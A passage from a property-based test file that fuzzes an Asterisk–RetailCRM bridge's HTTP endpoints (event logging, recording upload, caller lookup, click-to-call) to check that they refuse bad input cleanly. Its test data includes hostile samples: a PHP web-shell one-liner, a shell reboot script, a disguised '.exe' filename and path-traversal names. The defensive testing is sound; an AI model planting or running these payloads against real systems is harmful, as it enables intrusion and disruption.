    } else warn(name, "ignored", `${error}; the event was stored without it`);
  }
  if (!trimmed(get(params, "phone"))) return refused(refuse(400, `parameter phone is required for type=${type}`));
  if (type !== "in" && codesOf(trimmed(get(params, "code"))).length > 1) {
    delete params.code;
    warn(
      "code",
      "ignored",
      `parameter code must be a single extension for type=${type}; the event was stored without it`,
    );
  }
  return outcome;
}

/** Every parameter body is read within PARAMS_MAX_BYTES, before anything else is looked at. */
function withinBodyLimit(request: Encoded, expected: Expected): Expected {
  return request.formBytes > PARAMS_MAX_BYTES
    ? refuse(413, `the request body is larger than ${PARAMS_MAX_BYTES} bytes`)
    : expected;
}

const EVENT_KEYS = [
  "clientId",
  "type",
  "uniqueid",
  "phone",
  "code",
  "status",
  "direct",
  "date",
  "DATE",
  "hold",
  "duration",
  "path",
] as const;
const FRESH = "@fresh-uniqueid@";
let uniqueSeq = 0;
const freshUniqueid = () => `${1_800_000_000 + (Math.floor(Date.now() / 1000) % 100_000)}.${++uniqueSeq}`;

/** A good dialplan event of each type, as event.sh and the guide's macros send it. */
const goodEvent: fc.Arbitrary<Pairs> = fc.constantFrom("in", "out", "hangup").chain((type) =>
  fc
    .record(
      {
        phone: dialplanPhone,
        code: type === "in" ? fc.array(extension, { maxLength: 4 }).map((c) => c.join(", ")) : extension,
        status: dialStatus,
        direct: fc.constantFrom("in", "out"),
        date: dateTime,
        dateKey: fc.constantFrom("date", "DATE"),
        hold: seconds,
        duration: seconds,
        path: recordUrl,
      },
      { requiredKeys: ["phone", "dateKey"] },
    )
    .map((e): Pairs => {
      const pairs: [string, string][] = [
        ["clientId", "@clientId@"],
        ["type", type],
        ["uniqueid", FRESH],
        ["phone", e.phone],
      ];
      if (e.code !== undefined) pairs.push(["code", e.code]);
      if (type === "hangup") {
        for (const key of ["status", "direct", "hold", "duration", "path"] as const)
          if (e[key] !== undefined) pairs.push([key, e[key]]);
        if (e.date !== undefined) pairs.push([e.dateKey, e.date]);
      }
      return pairs;
    }),
);

function withIdentity(pairs: Pairs): Pairs {
  return pairs.map(([k, v]) => [k, v === "@clientId@" ? main.clientId : v === FRESH ? freshUniqueid() : v] as const);
}

async function expectStoredEvent(
  p: Params,
  before: Snapshot,
  existed: { event: boolean; call: boolean },
  keys: string[],
) {
  const after = await snapshot();
  const type = p.type as "in" | "out" | "hangup";
  const uniqueid = p.uniqueid!.trim();
  if (existed.event) {
    expect(after).toEqual(before);
    return;
  }
  expect(after).toEqual({
    ...before,
    events: before.events + 1,
    calls: before.calls + (existed.call ? 0 : 1),
    deliveries: before.deliveries + (type === "hangup" ? 2 : 1),
  });
  const call = await db().call.findUniqueOrThrow({ where: { accountId_uniqueid: { accountId: main.id, uniqueid } } });
  expect(call.phone).toBe(p.phone!.trim());
  expect(call.inputWarnings.slice(call.inputWarnings.length - keys.length)).toEqual(keys);
  const code = codesOf(trimmed(get(p, "code")))[0];
  if (type !== "in" && code) expect(call.extension).toBe(code);
  if (type === "hangup") {
    expect(call.result).toBe(mapStatus(trimmed(get(p, "status")) ?? "").upload);
    expect(call.talkSeconds).toBe(has(p, "duration") ? Number(p.duration) : null);
    expect(call.waitSeconds).toBe(has(p, "hold") ? Number(p.hold) : null);
    // The call's start: the hangup's date minus its wait and talk, not before 1970.
    const date = trimmed(get(p, "date"));
    const waited = (call.talkSeconds ?? 0) + (call.waitSeconds ?? 0);
    if (date)
      expect(call.startedAt?.getTime()).toBe(
        Math.max(0, new Date(`${date.replace(" ", "T")}Z`).getTime() - waited * 1000),
      );
  }
}

/** Sends a dialplan event and holds the answer and the database to the contract. */
async function checkEvent(pairs: Pairs, transport: Transport, rawQuery = "") {
  const request = encode("/api/event", pairs, transport, rawQuery);
  const p = eventParams(request.params);
  fc.pre(p.type !== "upload" && !pairs.some(([k, v]) => k === "type" && v === "upload"));
  const outcome = eventContract(request.params);
  const expected = withinBodyLimit(request, outcome.expected);
  const uniqueid = trimmed(get(p, "uniqueid"));
  const type = get(p, "type");
  const [event, call, before] = await Promise.all([
    expected.ok && uniqueid && type
      ? db().callEvent.findUnique({
          where: { accountId_uniqueid_type: { accountId: main.id, uniqueid, type: type.toUpperCase() as "IN" } },
        })
      : null,
    expected.ok && uniqueid
      ? db().call.findUnique({ where: { accountId_uniqueid: { accountId: main.id, uniqueid } } })
      : null,
    snapshot(),
  ]);
  const existed = { event: !!event, call: !!call };
  const reply = await send(request.url, request.init);
  if (!expected.ok) {
    expectRefusal(reply, expected, { pairs: pairs.map(([k, v]) => [k, v.slice(0, 200)]), transport, rawQuery });
    expect(await snapshot()).toEqual(before);
    return;
  }
  expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify({ pairs, transport }).slice(0, 2000)).toEqual({
    status: 200,
    body: {
      success: true,
      duplicate: existed.event,
      ...(outcome.warnings.length ? { warnings: outcome.warnings } : {}),
    },
  });
  await expectStoredEvent(outcome.params, before, existed, existed.event ? [] : outcome.keys);
}

// ---------------------------------------------------------------------------------------------

beforeAll(async () => {
  expect(env().RECORDINGS_DIR).toBe(RECORDINGS_DIR);
  expect(env().RECORDING_MAX_BYTES).toBe(MAX_BYTES);
  crm = await createRetailCrmSim({ rateLimit: false });
  seedDemo(crm);
  crm2 = await createRetailCrmSim({ rateLimit: false });
  seedDemo(crm2);
  pbx = await createAsteriskSim({ tcpPort: null, httpPort: 0, users: [ami] });
  app = await serveRoutes({
    "/api/manager": managerRoute,
    "/api/event": eventRoute,
    "/api/crm/make-call": makeCallRoute,
    "/api/crm/user-status": userStatusRoute,
    "/api/crm/activity": activityRoute,
    "/api/crm/config": configRoute,
    "/api/crm/register": registerRoute,
    "/account": accountRoute,
    "/recordings/[id]/[sig]": recordingRoute,
    "/data/event.sh": eventShRoute,
  });
  const account = await connectAccount({ crmUrl: crm.url, apiKey: DEMO.apiKey });
  main = { id: account.id, clientId: account.clientId };
  await mapExtensions(account.id, { 3: "101", 4: "102" });
  await db().asteriskSettings.update({
    where: { accountId: account.id },
    data: {
      amiTransport: "HTTP",
      amiHost: "127.0.0.1",
      amiPort: pbx.httpPort!,
      amiLogin: ami.username,
      amiSecretEnc: encryptSecret(ami.secret),
      channelTemplate: "PJSIP",
      outgoingContext: "from-internal",
    },
  });
  // Stored as connecting would store them: "scheme://host/".
  const other = await createTestAccount();
  const crmUrl = `${other.crmUrl.replace(/\/+$/, "")}/`;
  await db().account.update({ where: { id: other.id }, data: { crmUrl } });
  switched = { id: other.id, clientId: other.clientId, crmUrl };
  const third = await createTestAccount();
  await db().account.update({ where: { id: third.id }, data: { crmUrl: `${third.crmUrl.replace(/\/+$/, "")}/` } });
  statuses = { id: third.id, clientId: third.clientId };
});

afterAll(async () => {
  await closeAmiSessions();
  await app?.close();
  await crm?.close();
  await crm2?.close();
  await pbx?.close();
  await rm(RECORDINGS_DIR, { recursive: true, force: true });
});

/**
 * Each property stops after 8 s: on a loaded machine with fewer runs (still a pass), and after a
 * failure with the smallest counterexample found by then (shrinking replays requests).
 */
const runs = (numRuns: number) => ({ numRuns, interruptAfterTimeLimit: 8_000 });

describe("/api/event (in, out, hangup)", () => {
  it("stores every good event, whichever way its parameters travel", async () => {
    await fc.assert(
      fc.asyncProperty(goodEvent, transportArb, async (event, transport) => {
        await checkEvent(withIdentity(event), transport);
      }),
      runs(40),
    );
  });

  it("refuses a hostile clientId, type, uniqueid or phone precisely and stores nothing; cleans or leaves out any other bad parameter, stores the event and says so; ignores unknown ones", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodEvent,
        fc.array(mutationArb(EVENT_KEYS), { minLength: 1, maxLength: 3 }),
        transportArb,
        async (event, mutations, transport) => {
          await checkEvent(mutate(withIdentity(event), mutations), transport);
        },
      ),
      runs(150),
    );
  });

  it("reads bad percent-encoding in the query as the URL standard does, and answers it precisely", async () => {
    const fragment = fc
      .array(
        fc.constantFrom(
          ...ENCODING,
          "phone=%zz",
          "code=1%2C2",
          "status=%00",
          "type=%69n",
          "clientId=%",
          "uniqueid=%31.%32",
          "path=http%3A%2F%2Fx%00",
          "&&",
          "=x",
          "date=2026-01-01%2010:00:00",
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((parts) => parts.join("&"));
    await fc.assert(
      fc.asyncProperty(
        goodEvent,
        fragment,
        fc.constantFrom<Transport>({ kind: "get" }, { kind: "post-query" }),
        async (event, raw, transport) => {
          await checkEvent(withIdentity(event), transport, raw);
        },
      ),
      runs(30),
    );
  });

  it("answers a repeated event as a duplicate and stores it once, whichever way each copy travels", async () => {
    await fc.assert(
      fc.asyncProperty(goodEvent, transportArb, transportArb, async (event, first, second) => {
        const pairs = withIdentity(event);
        await checkEvent(pairs, first);
        await checkEvent(pairs, second);
      }),
      runs(10),
    );
  });

  it("refuses an unknown or malformed clientId with 401 (400 when longer than 128), storing nothing", async () => {
    const clientIds = fc.oneof(
      fc.string({ unit: fc.constantFrom(..."0123456789abcdef"), minLength: 64, maxLength: 64 }),
      hostile.filter((v) => v.length <= 128),
      edge("clientId"),
      fc.constantFrom(
        main.clientId.toUpperCase(),
        `${main.clientId} `,
        ` ${main.clientId}`,
        `${main.clientId}\u0000`,
        main.clientId.slice(1),
        `${main.clientId}0`,
      ),
    );
    await fc.assert(
      fc.asyncProperty(goodEvent, clientIds, transportArb, async (event, clientId, transport) => {
        fc.pre(clientId !== main.clientId);
        await checkEvent(mutate(withIdentity(event), [{ kind: "set", key: "clientId", value: clientId }]), transport);
      }),
      runs(40),
    );
  });

  it("answers a multipart body it cannot parse with 400 naming the body", async () => {
    await fc.assert(
      fc.asyncProperty(malformedMultipart, async ({ contentType, body }) => {
        fc.pre(await unparseable(contentType, body));
        const before = await snapshot();
        const reply = await send(
          `/api/event?${new URLSearchParams({ clientId: main.clientId, type: "in", uniqueid: freshUniqueid(), phone: "+79001234567" })}`,
          {
            method: "POST",
            body,
            headers: { "content-type": contentType },
          },
        );
        expectRefusal(reply, refuse(400, "the request body is not valid multipart/form-data"), {
          contentType,
          body: body.toString(),
        });
        expect(await snapshot()).toEqual(before);
      }),
      runs(10),
    );
  });
});

/** Whether the platform's form parser (the one the routes use) refuses a body. */
async function unparseable(contentType: string, body: Buffer): Promise<boolean> {
  return new Response(new Uint8Array(body), { headers: { "content-type": contentType } }).formData().then(
    () => false,
    () => true,
  );
}

/**
 * What the upload's streaming parser (busboy, as the route uses it) makes of a multipart body: a
 * body it refuses before a file begins is malformed; otherwise it holds a file or none.
 */
function uploadVerdict(contentType: string, body: Buffer): Promise<"malformed" | "no-file" | "file"> {
  return new Promise((resolve) => {
    let parser: busboy.Busboy;
    try {
      parser = busboy({
        headers: { "content-type": contentType },
        limits: { files: 1, fields: 20, fieldSize: 4096, parts: 30, headerPairs: 20 },
      });
    } catch {
      resolve("malformed");
      return;
    }
    let file = false;
    parser.on("file", (_name, stream) => {
      file = true;
      stream.resume();
    });
    parser.on("error", () => resolve(file ? "file" : "malformed"));
    parser.on("close", () => resolve(file ? "file" : "no-file"));
    parser.end(body);
  });
}

/** Bodies that say multipart/form-data and are not (see unparseable). */
const malformedMultipart = fc.record({
  contentType: fc.constantFrom(
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=abc",
    "MULTIPART/FORM-DATA; boundary=zz",
    'multipart/form-data; boundary="unterminated',
  ),
  body: fc.oneof(
    fc
      .constantFrom(
        "",
        "garbage",
        "--abc\r\nContent-Disposition: form-data\r\n\r\nx",
        "--abc\r\n\r\n",
        "--zz--",
        '--abc\r\nContent-Disposition: form-data; name="a"\r\n\r\nno end',
      )
      .map((s) => Buffer.from(s)),
    fc.uint8Array({ minLength: 1, maxLength: 200 }).map((b) => Buffer.from(b)),
  ),
});

// ---------------------------------------------------------------------------------------------

describe("/api/event type=upload", () => {
  const audio = fc.oneof(
    fc.integer({ min: 1, max: 3 }).map((n) => pcmWav(8000, n / 4)),
    fc.constant(id3Mp3()),
    fc
      .uint8Array({ minLength: 20, maxLength: 2000 })
      .map((tail) => Buffer.concat([Buffer.from("OggS\u0000\u0002", "latin1"), Buffer.from(tail)])),
  );
  const notAudio = fc
    .oneof(
      fc.uint8Array({ minLength: 1, maxLength: 3000 }).map((b) => Buffer.from(b)),
      fc
        .constantFrom(
          ...TRAVERSAL,
          ...SHELL,
          ...SQL,
          "<?php system($_GET['c']); ?>",
          "RIFF",
          "OggS",
          "ID3",
          "#!/bin/sh\nreboot\n",
        )
        .map((s) => Buffer.from(s)),
    )
    .filter((b) => b.length < SNIFF_BYTES || !sniffAudio(b.subarray(0, SNIFF_BYTES)));
  const oversized = fc
    .oneof(fc.integer({ min: 1, max: 4096 }), fc.integer({ min: 70 * 1024, max: 140 * 1024 }))
    .map((extra) => Buffer.concat([pcmWav(8000, 1).subarray(0, 44), Buffer.alloc(MAX_BYTES - 44 + extra, 1)]));
  const filename = fc.oneof(
    fc.constantFrom(...TRAVERSAL, "record.wav", "", "a\u0000b.wav", "\u202evaw.exe", "CON.wav", "x".repeat(2000)),
    hostile,
  );

  type Body =
    | { kind: "audio"; bytes: Buffer; multipart: boolean }
    | { kind: "empty"; multipart: boolean }
    | { kind: "not-audio"; bytes: Buffer; multipart: boolean }
    | { kind: "oversized"; bytes: Buffer }
    | { kind: "no-file" }
    | { kind: "malformed"; contentType: string; body: Buffer }
    | { kind: "get" };
  const bodyArb: fc.Arbitrary<Body> = fc.oneof(
    {
      weight: 4,
      arbitrary: fc.tuple(audio, fc.boolean()).map(([bytes, multipart]): Body => ({ kind: "audio", bytes, multipart })),
    },
    { weight: 1, arbitrary: fc.boolean().map((multipart): Body => ({ kind: "empty", multipart })) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(notAudio, fc.boolean())
        .map(([bytes, multipart]): Body => ({ kind: "not-audio", bytes, multipart })),
    },
    { weight: 1, arbitrary: oversized.map((bytes): Body => ({ kind: "oversized", bytes })) },
    { weight: 1, arbitrary: fc.constant<Body>({ kind: "no-file" }) },
    { weight: 1, arbitrary: malformedMultipart.map((m): Body => ({ kind: "malformed", ...m })) },
    { weight: 1, arbitrary: fc.constant<Body>({ kind: "get" }) },
  );
  const rawContentType = fc.constantFrom<string | undefined>(
    undefined,
    "application/octet-stream",
    "audio/wav",
    "text/plain",
    "application/x-www-form-urlencoded",
    "application/json",
    "",
  );

  it("stores audio once whatever its file name says, and refuses empty, non-audio, oversized, file-less and malformed bodies precisely", async () => {
    await fc.assert(
      fc.asyncProperty(
        bodyArb,
        filename,
        fc.array(fc.tuple(fc.constantFrom(...JUNK_KEYS, "file", "name"), hostile), { maxLength: 3 }),
        rawContentType,
        fc.option(fc.array(mutationArb(["clientId", "uniqueid", "phone", "status"]), { maxLength: 1 })),
        async (body, name, fields, contentType, mutations) => {
          const uniqueid = freshUniqueid();
          const pairs = mutate(
            [
              ["clientId", main.clientId],
              ["type", "upload"],
              ["uniqueid", uniqueid],
            ],
            mutations ?? [],
          );
          fc.pre(!pairs.some(([k, v]) => k === "type" && v !== "upload"));
          const url = `/api/event?${new URLSearchParams(pairs.map(([k, v]) => [k, v]))}`;
          // The recording's parameters travel in the query only: one too long for the HTTP server is its 431 (tested apart).
          fc.pre(url.length <= MAX_QUERY);
          const params = lastWins([...new URL(url, "http://x").searchParams]);
          let init: Parameters<typeof send>[1];
          let expected: Expected = eventContract(params).expected;
          const multipartOf = (bytes: Uint8Array) => {
            const built = multipartBody(fields, { field: "file", filename: name, bytes });
            return { method: "POST" as const, body: built.body, headers: { "content-type": built.contentType } };
          };
          const notMultipart = "the request body is not valid multipart/form-data (curl -F file=@record.wav)";
          // A form whose fields the parser refuses before the file is refused as a whole.
          const probe = multipartOf(new Uint8Array([1]));
          const fieldsRefused =
            (body.kind === "audio" || body.kind === "empty" || body.kind === "not-audio") &&
            body.multipart &&
            (await uploadVerdict(probe.headers["content-type"], probe.body)) === "malformed";
          if (expected.ok && fieldsRefused) expected = refuse(400, notMultipart);
          const raw = (bytes: Uint8Array) => ({
            method: "POST" as const,
            body: bytes,
            headers: (contentType === undefined ? {} : { "content-type": contentType }) as Record<string, string>,
          });
          switch (body.kind) {
            case "audio":
              init = body.multipart ? multipartOf(body.bytes) : raw(body.bytes);
              break;
            case "empty":
              init = body.multipart ? multipartOf(new Uint8Array()) : raw(new Uint8Array());
              if (expected.ok)
                expected = refuse(
                  400,
                  body.multipart
                    ? "the recording is empty"
                    : /^(the recording is empty|type=upload needs the recording in the request body)$/,
                );
              break;
            case "not-audio":
              init = body.multipart ? multipartOf(body.bytes) : raw(body.bytes);
              if (expected.ok) expected = refuse(415, "the recording must be WAV, MP3 or OGG audio");
              break;
            case "oversized":
              init = raw(body.bytes);
              if (expected.ok) expected = refuse(413, `the recording is larger than ${MAX_BYTES} bytes`);
              break;
            case "no-file": {
              const built = multipartBody(fields.length ? fields : [["file", "not a file"]]);
              init = { method: "POST", body: built.body, headers: { "content-type": built.contentType } };
              const verdict = await uploadVerdict(built.contentType, built.body);
              if (expected.ok)
                expected = refuse(
                  400,
                  verdict === "malformed"
                    ? notMultipart
                    : "type=upload needs the recording as a file field (curl -F file=@record.wav)",
                );
              break;
            }
            case "malformed": {
              const verdict = await uploadVerdict(body.contentType, body.body);
              fc.pre(verdict !== "file");
              init = { method: "POST", body: body.body, headers: { "content-type": body.contentType } };
              if (expected.ok)
                expected = refuse(
                  400,
                  verdict === "malformed"
                    ? notMultipart
                    : "type=upload needs the recording as a file field (curl -F file=@record.wav)",
                );
              break;
            }
            case "get":
              init = { method: "GET" };
              if (expected.ok) expected = refuse(400, "type=upload needs the recording in the request body");
              break;
          }
          const before = await snapshot();
          const filesBefore = await recordingFiles();
          const reply = await send(url, init);
          const context = { body: body.kind, name, fields, contentType, pairs };
          if (!expected.ok) {
            expectRefusal(reply, expected, context);
            expect(await snapshot()).toEqual(before);
            expect(await recordingFiles()).toEqual(filesBefore);
            return;
          }
          const answer = jsonOf(reply) as { recordingId?: number };
          expect({ status: reply.status, body: answer }, JSON.stringify(context)).toEqual({
            status: 200,
            body: { success: true, duplicate: false, recordingId: expect.any(Number) },
          });
          expect(await snapshot()).toEqual({ ...before, recordings: before.recordings + 1, events: before.events + 1 });
          const stored = await db().recording.findUniqueOrThrow({ where: { id: answer.recordingId! } });
          const bytes = body.kind === "audio" ? body.bytes : Buffer.alloc(0);
          expect(stored).toMatchObject({
            accountId: main.id,
            uniqueid: params.uniqueid!.trim(),
            sizeBytes: bytes.length,
          });
          expect((await recordingFiles()).size).toBe(filesBefore.size + 1);
          // The same upload again changes nothing.
          const again = await send(url, body.kind === "audio" && body.multipart ? multipartOf(bytes) : raw(bytes));
          expect([again.status, jsonOf(again)]).toEqual([200, { success: true, duplicate: true }]);
          expect(await snapshot()).toEqual({ ...before, recordings: before.recordings + 1, events: before.events + 1 });
        },
      ),
      runs(50),
    );
  });

  it("refuses type=upload given in a form body, whose body then holds no recording", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<Transport>(
          { kind: "urlencoded", contentType: "application/x-www-form-urlencoded" },
          { kind: "multipart" },
          { kind: "split", at: 2 },
        ),
        async (transport) => {
          const request = encode(
            "/api/event",
            [
              ["clientId", main.clientId],
              ["uniqueid", freshUniqueid()],
              ["type", "upload"],
            ],
            transport,
          );
          const before = await snapshot();
          const reply = await send(request.url, request.init);
          expectRefusal(
            reply,
            refuse(
              400,
              "type=upload takes its parameters from the query string; the request body must be the recording",
            ),
            transport,
          );
          expect(await snapshot()).toEqual(before);
        },
      ),
      runs(6),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/api/manager", () => {
  /** /api/manager's contract (docs/dialplan-api.md): the first parameter it refuses, or a lookup. */
  function managerContract(p: Params): Expected {
    const clientId = get(p, "clientId");
    if (!clientId) return refuse(400, "parameter clientId is required");
    if (len(clientId) > 128) return refuse(400, "parameter clientId is too long");
    const phone = trimmed(get(p, "phone"));
    if (!phone) return refuse(400, "parameter phone is required");
    if (len(phone) > 64) return refuse(400, "parameter phone is too long");
    if (!PHONE_CHARS.test(phone)) return refuse(400, "parameter phone has characters a phone number cannot have");
    if (!["json", "text"].includes(get(p, "type") ?? "")) return refuse(400, "parameter type must be json or text");
    if (clientId !== main.clientId) return refuse(401, "unknown clientId");
    return OK;
  }

  async function checkManager(pairs: Pairs, rawQuery = "") {
    const query = [new URLSearchParams(pairs.map(([k, v]) => [k, v])).toString(), rawQuery].filter(Boolean).join("&");
    fc.pre(query.length <= 12_000);
    const url = `/api/manager?${query}`;
    const p = lastWins([...new URL(url, "http://x").searchParams]);
    const expected = managerContract(p);
    const format = get(p, "type") === "text" ? "text" : "json";
    const before = await snapshot();
    const reply = await send(url);
    const context = JSON.stringify({ pairs, rawQuery });
    expect(reply.headers.get("content-type"), context).toBe(
      format === "text" ? "text/plain; charset=utf-8" : "application/json; charset=utf-8",
    );
    expect(reply.body.length).toBeLessThan(1024);
    if (expected.ok) {
      expect(reply.status, context).toBe(200);
      if (format === "text") expect(reply.text).toMatch(/^[^,\n\r]*,\d*$/);
      else
        expect(jsonOf(reply)).toEqual({
          result: { callerId: expect.any(String), phone: expect.stringMatching(/^\d*$/) },
        });
      if (trimmed(p.phone) === "+79001234567")
        expect(reply.text).toBe(
          format === "text" ? "Иван Иванов,101" : '{"result":{"callerId":"Иван Иванов","phone":"101"}}',
        );
    } else {
      expect(
        { status: reply.status, error: decodeURIComponent(reply.headers.get("x-bridge-error") ?? "") },
        context,
      ).toEqual({ status: expected.status, error: expected.error });
      expect(reply.text).toBe(
        format === "text" ? "," : JSON.stringify({ result: { callerId: "", phone: "" }, error: expected.error }),
      );
    }
    expect(await snapshot()).toEqual(before);
  }

  const goodQuery = fc
    .tuple(
      fc.oneof(dialplanPhone, fc.constantFrom("+79001234567", "89001234567", "+7 (900) 123-45-67")),
      fc.constantFrom("json", "text"),
      fc.nat(2),
    )
    .map(([phone, type, order]): Pairs => {
      const pairs: [string, string][] = [
        ["clientId", "@clientId@"],
        ["phone", phone],
        ["type", type],
      ];
      return [...pairs.slice(order), ...pairs.slice(0, order)];
    });

  it("answers every good lookup with the caller's name and extension in the asked format", async () => {
    await fc.assert(
      fc.asyncProperty(goodQuery, async (pairs) => checkManager(withIdentity(pairs))),
      runs(30),
    );
  });

  it("refuses hostile, missing and repeated parameters with the precise status, the message in X-Bridge-Error, and empty values in the body", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodQuery,
        fc.array(mutationArb(["clientId", "phone", "type"]), { minLength: 1, maxLength: 3 }),
        async (pairs, mutations) => {
          await checkManager(mutate(withIdentity(pairs), mutations));
        },
      ),
      runs(120),
    );
  });

  it("reads bad percent-encoding as the URL standard does", async () => {
    const fragment = fc
      .array(
        fc.constantFrom(
          ...ENCODING,
          "phone=%zz",
          "phone=%2B7900%00",
          "type=%74ext",
          "type=te%78",
          "clientId=%",
          "&&",
          "=x",
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((parts) => parts.join("&"));
    await fc.assert(
      fc.asyncProperty(goodQuery, fragment, async (pairs, raw) => checkManager(withIdentity(pairs), raw)),
      runs(30),
    );
  });

  it("answers a request line too long for the HTTP server with 431, not a 5xx", async () => {
    const reply = await send(
      `/api/manager?${new URLSearchParams({ clientId: main.clientId, type: "json", phone: "1".repeat(20_000) })}`,
    );
    expect(reply.status).toBe(431);
  });
});

// ---------------------------------------------------------------------------------------------

describe("/api/crm/make-call", () => {
  /** The CRM's makeCallUrl (docs/retailcrm.md): clientId first, then the click's parameters. */
  function makeCallContract(p: Params): Expected {
    if (get(p, "clientId") !== main.clientId) return refuse(401, "unknown clientId");
    const code = trimmed(get(p, "code"));
    if (code === undefined) return refuse(400, "parameter code is required");
    if (!/^\d{1,10}$/.test(code)) return refuse(400, "parameter code must be the manager's extension (digits)");
    const phone = trimmed(get(p, "phone"));
    if (phone === undefined || phone === "") return refuse(400, "parameter phone is required");
    if (phone.length > 64) return refuse(400, "parameter phone is too long");
    // Plain spaces only: a tab or line break would be stored in the journal and sent on.
    if (!/^[+\d ()\-.]+$/.test(phone) || phone.replace(/\D/g, "").length < 2)
      return refuse(400, "parameter phone must be a phone number");
    const userId = trimmed(get(p, "userId"));
    if (userId !== undefined && !/^\d{1,12}$/.test(userId)) return refuse(400, "parameter userId must be a number");
    const externalPhone = trimmed(get(p, "externalPhone"));
    if (externalPhone !== undefined && len(externalPhone) > 64) return refuse(400, /externalPhone/);
    return OK;
  }

  const MAPPED: Record<string, number> = { "101": 3, "102": 4 };
  const goodClick = fc
    .record({
      code: fc.constantFrom("101", "102", " 101 "),
      phone: padded(
        fc.oneof(
          digits(2, 15),
          digits(2, 15).map((d) => `+${d}`),
          fc.constantFrom("+7 (900) 123-45-67", "8.900.123.45.67", "8-900-123-45-67"),
        ),
      ),
      withUser: fc.boolean(),
      externalPhone: fc.option(fc.constantFrom("+74951234567", "", "74951234567")),
    })
    .map(({ code, phone, withUser, externalPhone }): Pairs => {
      const pairs: [string, string][] = [
        ["clientId", "@clientId@"],
        ["code", code],
        ["phone", phone],
      ];
      if (withUser) pairs.push(["userId", String(MAPPED[code.trim()])]);
      if (externalPhone !== null) pairs.push(["externalPhone", externalPhone]);
      return pairs;
    });

  async function checkMakeCall(pairs: Pairs, transport: Transport) {
    const request = encode("/api/crm/make-call", pairs, transport);
    const p = request.params;
    const expected = withinBodyLimit(request, makeCallContract(p));
    const before = await snapshot();
    const originates = pbx.originates.length;
    const reply = await send(request.url, request.init);
    const context = { pairs, transport };
    if (!expected.ok) {
      expectRefusal(reply, expected, context);
      expect(await snapshot()).toEqual(before);
      expect(pbx.originates.length).toBe(originates);
      return;
    }
    const code = p.code!.trim();
    const userId = trimmed(get(p, "userId"));
    if (MAPPED[code] === undefined || (userId !== undefined && Number(userId) !== MAPPED[code])) {
      // Not bad input but a refusal the manager reads in the CRM: 200 with success false, as for PBX failures.
      expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify(context)).toEqual({
        status: 200,
        body: { success: false, errorMsg: `Внутренний номер ${code} не назначен этому сотруднику в модуле Asterisk` },
      });
      expect(await snapshot()).toEqual(before);
      expect(pbx.originates.length).toBe(originates);
      return;
    }
    expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify(context)).toEqual({
      status: 200,
      body: { success: true },
    });
    expect(pbx.originates.length).toBe(originates + 1);
    expect(await snapshot()).toEqual({ ...before, calls: before.calls + 1 });
    const call = await db().call.findFirstOrThrow({ where: { accountId: main.id }, orderBy: { id: "desc" } });
    expect(call).toMatchObject({ direction: "OUT", phone: p.phone!.trim(), extension: code, result: null });
  }

  it("rings the manager for every good click", async () => {
    await fc.assert(
      fc.asyncProperty(goodClick, transportArb, async (pairs, transport) =>
        checkMakeCall(withIdentity(pairs), transport),
      ),
      runs(15),
    );
  });

  it("refuses hostile, missing and repeated code, userId and clientId precisely, without a call or a row", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodClick,
        fc.array(mutationArb(["clientId", "code", "userId"]), { minLength: 1, maxLength: 2 }),
        transportArb,
        async (pairs, mutations, transport) => {
          await checkMakeCall(mutate(withIdentity(pairs), mutations), transport);
        },
      ),
      runs(60),
    );
  });

  it("refuses a hostile phone precisely (a phone number has no tabs or line breaks), without a call or a row", async () => {
    await fc.assert(
      fc.asyncProperty(goodClick, fc.oneof(hostile, edge("phone")), transportArb, async (pairs, phone, transport) => {
        await checkMakeCall(mutate(withIdentity(pairs), [{ kind: "set", key: "phone", value: phone }]), transport);
      }),
      runs(40),
    );
  });

  it("refuses a hostile externalPhone with a message that names it", async () => {
    await fc.assert(
      fc.asyncProperty(
        goodClick,
        fc.oneof(hostile, fc.constantFrom("1".repeat(64), "1".repeat(65))),
        transportArb,
        async (pairs, externalPhone, transport) => {
          await checkMakeCall(
            mutate(withIdentity(pairs), [{ kind: "set", key: "externalPhone", value: externalPhone }]),
            transport,
          );
        },
      ),
      runs(25),
    );
  });

  it("answers a multipart body it cannot parse with 400 naming the body", async () => {
    await fc.assert(
      fc.asyncProperty(malformedMultipart, async ({ contentType, body }) => {
        fc.pre(await unparseable(contentType, body));
        const reply = await send(
          `/api/crm/make-call?${new URLSearchParams({ clientId: main.clientId, code: "101", phone: "89001234567" })}`,
          { method: "POST", body, headers: { "content-type": contentType } },
        );
        expectRefusal(reply, refuse(400, "the request body is not valid multipart/form-data"), { contentType });
      }),
      runs(5),
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe("/api/crm/user-status", () => {
  function userStatusContract(p: Params): Expected {
    if (get(p, "clientId") !== statuses.clientId) return refuse(401, "unknown clientId");
    const userId = trimmed(get(p, "userId"));
    if (userId === undefined) return refuse(400, "parameter userId is required");
    if (!/^\d{1,12}$/.test(userId)) return refuse(400, "parameter userId must be a number");
    // crm_users.crmUserId is a PostgreSQL integer.
    if (Number(userId) > INT4_MAX) return refuse(400, /userId/);
    if (!["free", "busy", "dinner", "break"].includes(get(p, "status") ?? ""))
      return refuse(400, "parameter status must be one of free, busy, dinner, break");
    const code = trimmed(get(p, "code"));
    if (code !== undefined && len(code) > 10) return refuse(400, /\bcode\b/);
    return OK;
  }

  const goodStatus = fc
    .record({
      userId: fc.oneof(fc.integer({ min: 1, max: 20 }), fc.integer({ min: 1, max: INT4_MAX })).map(String),
      status: fc.constantFrom("free", "busy", "dinner", "break"),
      code: fc.option(extension),
    })
    .map(({ userId, status, code }): Pairs => [
      ["clientId", "@statuses@"],
      ["userId", userId],
      ["status", status],
      ...(code === null ? [] : [["code", code] as [string, string]]),
    ]);
  const withStatusesIdentity = (pairs: Pairs): Pairs =>
    pairs.map(([k, v]) => [k, v === "@statuses@" ? statuses.clientId : v] as const);

  async function checkUserStatus(pairs: Pairs, transport: Transport) {
    const request = encode("/api/crm/user-status", pairs, transport);
    const expected = withinBodyLimit(request, userStatusContract(request.params));
